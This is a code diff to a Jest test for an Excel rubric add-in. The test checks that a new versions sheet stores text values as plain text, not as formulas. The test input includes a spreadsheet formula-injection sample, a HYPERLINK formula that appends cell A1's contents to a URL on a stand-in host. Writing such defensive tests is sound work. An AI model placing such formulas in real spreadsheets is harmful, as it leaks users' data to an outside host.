@@ -4,6 +4,7 @@ import { exampleRubric } from "../../src/rubric/example";
 import { Rubric } from "../../src/rubric/model";
 import { createRubric } from "../../src/workbook/create";
 import { readRubric } from "../../src/workbook/read-rubric";
+import { readVersionedRubric } from "../../src/workbook/versions/read";
 import { writeCriteria } from "../../src/workbook/write-criteria";
 import { createSimulatedHost, SimulatedHostOptions } from "../host";
 import { cellsOf, changedCells, dataValue, grid, numberFormats, valueAt } from "../support/host-helpers";
@@ -14,6 +15,7 @@ jest.setTimeout(30_000);
 const ID = "proactive-visit";
 const RUBRIC_SHEET = "proactive-visit rubric";
 const EVALUATIONS_SHEET = "proactive-visit evaluations";
+const VERSIONS_SHEET = "proactive-visit versions";
 const TITLE = '=HYPERLINK("http://x/?"&A1,"Open")';
 
 /** The example rubric with texts Excel would take for formulas, numbers, dates or booleans. */
@@ -47,11 +49,28 @@ describe.each<SimulatedHostOptions>([{}, { emptyCells: "zero" }])("text stays te
     expect(valueAt(host, RUBRIC_SHEET, "N11")).toBe("=A1");
     // Not one formula where text was written: the only formulas are the add-in's own.
     const formulas = host.model.sheets.flatMap((s) => s.entries().filter(([, , cell]) => cell.formula !== undefined));
-    expect(formulas.every(([, , cell]) => /^=(RUBRIC\.|SUMIFS|IF|LET|[A-Z_]+\[)/.test(cell.formula!))).toBe(true);
+    expect(formulas.every(([, , cell]) => /^=(RUBRIC\.|SUMIFS|IF|LET|COUNTIF|[A-Z_]+\[)/.test(cell.formula!))).toBe(
+      true,
+    );
+    // The versions sheet's only formula is version 1's Evaluations count (F4).
+    const versionFormulas = host.model
+      .sheet(VERSIONS_SHEET)
+      .entries()
+      .filter(([, , cell]) => cell.formula !== undefined);
+    expect(versionFormulas.map(([row, column, cell]) => [row, column, cell.formula])).toEqual([
+      [3, 5, "=COUNTIF(Evaluations_proactive_visit[Rubric version],[@[Version]])"],
+    ]);
 
     const read = await host.run((context) => readRubric(context, ID));
     expect(read.problems).toEqual([]);
     expect(read.rubric).toEqual(rubric);
+    // Version 1's snapshot holds the same texts, read back as written (title G4, description H4, labels AB4:AB12).
+    expect(grid(host, VERSIONS_SHEET, "G4:H4")).toEqual([[TITLE, "=2*21"]]);
+    expect(grid(host, VERSIONS_SHEET, "AB4:AB6")).toEqual([["0"], ["TRUE"], ["1e5"]]);
+    expect(valueAt(host, VERSIONS_SHEET, "AN4")).toBe("=A1");
+    const versioned = await host.run((context) => readVersionedRubric(context, ID));
+    expect(versioned.versions?.read.problems).toEqual([]);
+    expect(versioned.versions?.read.history.versions.map((v) => v.rubric)).toEqual([rubric]);
   });
 
   it("numbers stay numbers and dates stay dates beside text cells; the example's totals are unchanged", async () => {
